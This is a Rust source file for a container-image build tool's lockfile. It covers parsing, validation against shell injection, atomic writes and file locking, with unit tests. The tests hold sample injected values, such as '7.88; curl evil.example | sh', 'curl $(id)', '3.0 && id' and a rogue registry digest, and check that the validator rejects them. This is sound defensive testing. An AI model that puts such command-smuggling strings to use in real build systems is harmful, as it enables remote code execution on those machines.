//! `images.lock`: what was built, deterministic, written atomically under a file lock.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::build_time::BuildTime;
use crate::closure::PackageRecord;
use crate::error::{Error, Result};

/// Version of the lock's format.
pub const LOCK_VERSION: u32 = 1;

/// The whole lock.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Lockfile {
    pub version: u32,
    #[serde(default)]
    pub stacks: BTreeMap<String, LockEntry>,
}

/// One stack's record. Nothing machine-specific (no local image IDs).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct LockEntry {
    /// Content hash, `sha256:<hex>`.
    pub hash: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub parent: Option<String>,
    #[serde(default)]
    pub tags: Vec<String>,
    /// Digest of each input, so `plan` can say why a stack rebuilds.
    #[serde(default)]
    pub inputs: BTreeMap<String, String>,
    /// Debian package versions to install (`ferrostack update` writes them; hashed).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub pins: BTreeMap<String, String>,
    /// The rest of the closure `update` resolved, pinned too: each named package's
    /// dependencies that `apt-get install` adds or upgrades over the parent's image
    /// (named package → dependency → version; `update` writes them; hashed). The Dockerfile
    /// installs them `dep=version` beside the package that pulls them in.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub dependency_pins: BTreeMap<String, BTreeMap<String, String>>,
    /// Debian package versions found in the built image (recorded by `build`; not hashed).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub packages: BTreeMap<String, String>,
    /// Every Debian package this stack added to or changed in its parent's image (all of them
    /// for a root), keyed `name:architecture`, read from the built image's dpkg database (not
    /// hashed).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub closure: BTreeMap<String, crate::closure::PackageRecord>,
    /// Packages of the parent's image this stack removed (`name:architecture`).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub closure_removed: Vec<String>,
    /// The licences of the source packages of `closure`, from their binary packages'
    /// machine-readable copyright files, as SPDX license expressions (not hashed).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub licenses: BTreeMap<String, String>,
    /// Language packages (pip, npm, gem, Composer) the stack added beside its parent's, keyed
    /// `<ecosystem>:<name>`, read with each tool's own list command (not hashed).
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub language_packages: BTreeMap<String, String>,
    /// Runtime versions reported by the built image.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub runtimes: BTreeMap<String, String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub size: Option<u64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub layers: Option<u32>,
    /// The manifest digest pushed to the registry under the stack's immutable tag: exactly
    /// what was shipped (recorded when a registry is set).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub digest: Option<String>,
    /// The manifest digest of the stack's SPDX SBOM, stored in the registry next to the image
    /// under `sha256-<image digest hex>.sbom` (recorded when a registry is set).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sbom: Option<String>,
    /// How long `ferrostack build` took to build this stack (seconds, to a tenth), for
    /// `plan --simulate`; a stack found already built keeps the time of the build that made it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub build_seconds: Option<BuildTime>,
}

impl LockEntry {
    /// Records a build that took `seconds`; a `cached` one (the image was already in the
    /// engine) took no real time, so the `previous` entry's time is kept instead.
    pub fn record_build_time(&mut self, seconds: f64, cached: bool, previous: Option<&LockEntry>) {
        self.build_seconds = if cached {
            previous.and_then(|p| p.build_seconds)
        } else {
            Some(BuildTime::from_secs_f64(seconds))
        };
    }
}

impl Lockfile {
    /// Reads the lock; a missing file is `None`.
    pub fn read(path: &Path) -> Result<Option<Lockfile>> {
        let text = match std::fs::read_to_string(path) {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
            Err(e) => return Err(Error::io("read", path, e)),
        };
        Lockfile::parse(&text, path).map(Some)
    }

    /// The packages in a stack's image: its closure on top of its ancestors'; or, when the lock
    /// recorded no closure for its root, only the `packages` the stack names (`true`: by name).
    pub fn image_packages(&self, stack: &str) -> Option<(BTreeMap<String, PackageRecord>, bool)> {
        let mut chain: Vec<&LockEntry> = Vec::new();
        let mut next = Some(stack);
        while let Some(name) = next {
            let entry = self.stacks.get(name)?;
            if chain.len() > self.stacks.len() {
                break; // a parent loop in an edited lock: stop rather than spin
            }
            chain.push(entry);
            next = entry
                .parent
                .as_deref()
                .filter(|p| self.stacks.contains_key(*p));
        }
        let recorded = chain.last().is_some_and(|root| !root.closure.is_empty());
        if !recorded {
            let named = chain[0]
                .packages
                .iter()
                .map(|(p, v)| {
                    (
                        p.clone(),
                        PackageRecord {
                            version: v.clone(),
                            source: None,
                            source_version: None,
                        },
                    )
                })
                .collect();
            return Some((named, true));
        }
        let mut set = BTreeMap::new();
        for entry in chain.iter().rev() {
            for gone in &entry.closure_removed {
                set.remove(gone);
            }
            set.extend(entry.closure.iter().map(|(k, v)| (k.clone(), v.clone())));
        }
        Some((set, false))
    }

    /// The language packages in a stack's image: its own on top of its ancestors'.
    pub fn image_language_packages(&self, stack: &str) -> BTreeMap<String, String> {
        self.merged_up_the_chain(stack, |e| &e.language_packages)
    }

    /// The licences of the source packages in a stack's image: its own on top of its
    /// ancestors' (source package → SPDX expression).
    pub fn image_licenses(&self, stack: &str) -> BTreeMap<String, String> {
        self.merged_up_the_chain(stack, |e| &e.licenses)
    }

    /// `field` of a stack's entry on top of its parent's, on top of its grandparent's, ….
    fn merged_up_the_chain(
        &self,
        stack: &str,
        field: impl Fn(&LockEntry) -> &BTreeMap<String, String>,
    ) -> BTreeMap<String, String> {
        let mut chain: Vec<&LockEntry> = Vec::new();
        let mut next = Some(stack);
        while let Some(entry) = next.and_then(|n| self.stacks.get(n)) {
            if chain.len() > self.stacks.len() {
                break;
            }
            chain.push(entry);
            next = entry.parent.as_deref();
        }
        let mut out = BTreeMap::new();
        for entry in chain.iter().rev() {
            out.extend(field(entry).iter().map(|(k, v)| (k.clone(), v.clone())));
        }
        out
    }

    /// Reads a lock's text; `path` names it in errors (a file, or `REV:images.lock`).
    pub fn parse(text: &str, path: &Path) -> Result<Lockfile> {
        let lock: Lockfile = toml::from_str(text).map_err(|e| Error::LockParse {
            path: path.to_path_buf(),
            message: e.message().trim().to_string(),
        })?;
        if lock.version != LOCK_VERSION {
            return Err(Error::LockParse {
                path: path.to_path_buf(),
                message: format!(
                    "version {} is not the supported version {LOCK_VERSION}",
                    lock.version
                ),
            });
        }
        lock.check_pins().map_err(|message| Error::LockParse {
            path: path.to_path_buf(),
            message,
        })?;
        Ok(lock)
    }

    /// Pins go into `apt-get install pkg=version` lines, so each must be a Debian package name
    /// and a Debian version, nothing a shell could read differently.
    fn check_pins(&self) -> std::result::Result<(), String> {
        for (stack, entry) in &self.stacks {
            for (package, version) in &entry.pins {
                if !crate::debian::is_package_name(package) {
                    return Err(format!(
                        "stack `{stack}` pins `{package}`, which is not a Debian package name"
                    ));
                }
                if !crate::debian::is_version(version) {
                    return Err(format!("stack `{stack}` pins `{package}` to `{version}`, which is not a Debian version"));
                }
            }
            for (of, deps) in &entry.dependency_pins {
                if !crate::debian::is_package_name(of) {
                    return Err(format!("stack `{stack}` pins dependencies of `{of}`, which is not a Debian package name"));
                }
                for (package, version) in deps {
                    if !crate::debian::is_package_name(package) {
                        return Err(format!("stack `{stack}` pins `{package}` (a dependency of `{of}`), which is not a Debian package name"));
                    }
                    if !crate::debian::is_version(version) {
                        return Err(format!("stack `{stack}` pins `{package}` (a dependency of `{of}`) to `{version}`, which is not a Debian version"));
                    }
                }
            }
            for (source, expression) in &entry.licenses {
                if !crate::debian::is_package_name(source)
                    || !crate::licenses::LicenseExpression::is_well_formed(expression)
                {
                    return Err(format!("stack `{stack}` gives the source package `{source}` the licence `{expression}`, which is not a Debian package name with an SPDX expression"));
                }
            }
            if let Some((key, version)) = entry
                .language_packages
                .iter()
                .find(|(k, v)| !crate::language_packages::is_valid_entry(k, v))
            {
                return Err(format!("stack `{stack}` lists the language package `{key}` = `{version}`, which is not `pypi:`, `npm:`, `gem:` or `composer:` and a name and version that manager allows"));
            }
            for (field, value) in [("digest", &entry.digest), ("sbom", &entry.sbom)] {
                if let Some(value) = value.as_deref().filter(|v| !is_sha256_digest(v)) {
                    return Err(format!("stack `{stack}` has the {field} `{value}`, which is not a `sha256:` and 64 hex digits"));
                }
            }
            for key in entry.closure.keys().chain(&entry.closure_removed) {
                let ok = key.split_once(':').is_some_and(|(name, arch)| {
                    crate::debian::is_package_name(name)
                        && !arch.is_empty()
                        && arch.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
                });
                if !ok {
                    return Err(format!("stack `{stack}`'s closure names `{key}`, which is not `package:architecture`"));
                }
            }
        }
        Ok(())
    }

    /// The lock as text: sorted and stable.
    pub fn to_text(&self) -> String {
        let body = toml::to_string(self).expect("a lock always serialises");
        format!("# images.lock: written by ferrostack; do not edit by hand.\n{body}")
    }

    /// Writes the lock to a temporary file beside `path`, syncs it and renames it over `path`,
    /// so a reader (or a crash) never sees half a file.
    pub fn write_atomic(&self, path: &Path) -> Result<()> {
        let dir = path.parent().unwrap_or(Path::new("."));
        let mut tmp = tempfile::Builder::new()
            .prefix(".images.lock.")
            .tempfile_in(dir)
            .map_err(|e| Error::io("create a temporary file in", dir, e))?;
        tmp.write_all(self.to_text().as_bytes())
            .map_err(|e| Error::io("write", tmp.path().to_path_buf(), e))?;
        // A temporary file is created 0600; the lock is a shared, committed file.
        use std::os::unix::fs::PermissionsExt;
        tmp.as_file()
            .set_permissions(std::fs::Permissions::from_mode(0o644))
            .map_err(|e| Error::io("set the mode of", tmp.path().to_path_buf(), e))?;
        tmp.as_file()
            .sync_all()
            .map_err(|e| Error::io("sync", tmp.path().to_path_buf(), e))?;
        tmp.persist(path)
            .map_err(|e| Error::io("replace", path, e.error))?;
        if let Ok(d) = std::fs::File::open(dir) {
            let _ = d.sync_all();
        }
        Ok(())
    }
}

/// Exclusive access to a project's lock for one process; released on drop.
#[derive(Debug)]
pub struct LockGuard {
    file: std::fs::File,
    pub path: PathBuf,
}

impl LockGuard {
    /// Takes the guard at `path`. With `wait`, blocks until the holder finishes; otherwise a
    /// held guard is `LockBusy`.
    pub fn acquire(path: &Path, wait: bool) -> Result<LockGuard> {
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).map_err(|e| Error::io("create", dir, e))?;
        }
        let file = std::fs::OpenOptions::new()
            .create(true)
            .truncate(false)
            .write(true)
            .open(path)
            .map_err(|e| Error::io("open", path, e))?;
        if wait {
            file.lock().map_err(|e| Error::io("lock", path, e))?;
        } else {
            match file.try_lock() {
                Ok(()) => {}
                Err(std::fs::TryLockError::WouldBlock) => {
                    return Err(Error::LockBusy {
                        path: path.to_path_buf(),
                    })
                }
                Err(std::fs::TryLockError::Error(e)) => return Err(Error::io("lock", path, e)),
            }
        }
        Ok(LockGuard {
            file,
            path: path.to_path_buf(),
        })
    }
}

impl Drop for LockGuard {
    fn drop(&mut self) {
        let _ = self.file.unlock();
    }
}

/// `sha256:` and 64 lowercase hex digits: the only digest form a lock may name (an edited lock
/// must not smuggle another reference into a pull).
fn is_sha256_digest(text: &str) -> bool {
    text.strip_prefix("sha256:").is_some_and(|hex| {
        hex.len() == 64
            && hex
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn digests_must_be_sha256() {
        let good = format!("sha256:{}", "0a".repeat(32));
        let text = |field: &str, value: &str| {
            format!("version = 1\n[stacks.worker]\nhash = \"sha256:00\"\n{field} = {value:?}\n")
        };
        assert_eq!(
            read_text(&text("digest", &good)).unwrap().unwrap().stacks["worker"]
                .digest
                .as_deref(),
            Some(good.as_str())
        );
        assert_eq!(
            read_text(&text("sbom", &good)).unwrap().unwrap().stacks["worker"]
                .sbom
                .as_deref(),
            Some(good.as_str())
        );
        for bad in [
            "latest",
            "sha256:0a",
            "sha256:0A0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a",
            "registry.example/evil@sha256:00",
        ] {
            let err = read_text(&text("digest", bad)).unwrap_err();
            assert!(err.to_string().ends_with(&format!("stack `worker` has the digest `{bad}`, which is not a `sha256:` and 64 hex digits")), "{err}");
        }
    }

    fn lock_with_pin(package: &str, version: &str) -> String {
        format!("version = 1\n[stacks.worker]\nhash = \"sha256:00\"\n[stacks.worker.pins]\n{package:?} = {version:?}\n")
    }

    fn read_text(text: &str) -> Result<Option<Lockfile>> {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("images.lock");
        std::fs::write(&path, text).unwrap();
        Lockfile::read(&path)
    }

    #[test]
    fn pins_must_be_debian_versions() {
        let lock = read_text(&lock_with_pin("curl", "7.88.1-10+deb12u8"))
            .unwrap()
            .unwrap();
        assert_eq!(lock.stacks["worker"].pins["curl"], "7.88.1-10+deb12u8");
        let err = read_text(&lock_with_pin("curl", "7.88; curl evil.example | sh")).unwrap_err();
        assert!(
            err.to_string().ends_with("stack `worker` pins `curl` to `7.88; curl evil.example | sh`, which is not a Debian version"),
            "{err}"
        );
        let err = read_text(&lock_with_pin("curl $(id)", "1.0")).unwrap_err();
        assert!(
            err.to_string()
                .ends_with("stack `worker` pins `curl $(id)`, which is not a Debian package name"),
            "{err}"
        );
        let deps = |dep: &str, version: &str| {
            format!("version = 1\n[stacks.worker]\nhash = \"sha256:00\"\n[stacks.worker.dependency_pins.python3]\n{dep:?} = {version:?}\n")
        };
        let lock = read_text(&deps("libssl3", "3.0.17-1~deb12u2"))
            .unwrap()
            .unwrap();
        assert_eq!(
            lock.stacks["worker"].dependency_pins["python3"]["libssl3"],
            "3.0.17-1~deb12u2"
        );
        assert!(
            lock.to_text().contains(
                "[stacks.worker.dependency_pins.python3]\nlibssl3 = \"3.0.17-1~deb12u2\"\n"
            ),
            "{}",
            lock.to_text()
        );
        let err = read_text(&deps("libssl3", "3.0 && id")).unwrap_err();
        assert!(err.to_string().ends_with("stack `worker` pins `libssl3` (a dependency of `python3`) to `3.0 && id`, which is not a Debian version"), "{err}");
        let err = read_text(&deps("libssl3;id", "3.0")).unwrap_err();
        assert!(
            err.to_string()
                .ends_with("which is not a Debian package name"),
            "{err}"
        );
    }

    #[test]
    fn a_build_records_its_time_and_a_cached_one_keeps_the_previous() {
        let previous = LockEntry {
            build_seconds: Some(BuildTime::from_tenths(2057)),
            ..LockEntry::default()
        };
        let mut entry = LockEntry::default();
        entry.record_build_time(0.04, true, Some(&previous));
        assert_eq!(entry.build_seconds, Some(BuildTime::from_tenths(2057)));
        entry.record_build_time(0.04, true, None);
        assert_eq!(
            entry.build_seconds, None,
            "nothing measured, nothing invented"
        );
        entry.record_build_time(63.84, false, Some(&previous));
        assert_eq!(entry.build_seconds, Some(BuildTime::from_tenths(638)));
        let lock = Lockfile {
            version: LOCK_VERSION,
            stacks: BTreeMap::from([("base".to_string(), entry)]),
        };
        assert!(
            lock.to_text().contains("build_seconds = 63.8\n"),
            "{}",
            lock.to_text()
        );
    }

    #[test]
    fn the_lock_is_written_world_readable() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("images.lock");
        Lockfile {
            version: LOCK_VERSION,
            stacks: BTreeMap::new(),
        }
        .write_atomic(&path)
        .unwrap();
        assert_eq!(
            std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
            0o644
        );
        let names: Vec<_> = std::fs::read_dir(dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(names, ["images.lock"], "no temporary file is left behind");
    }
}
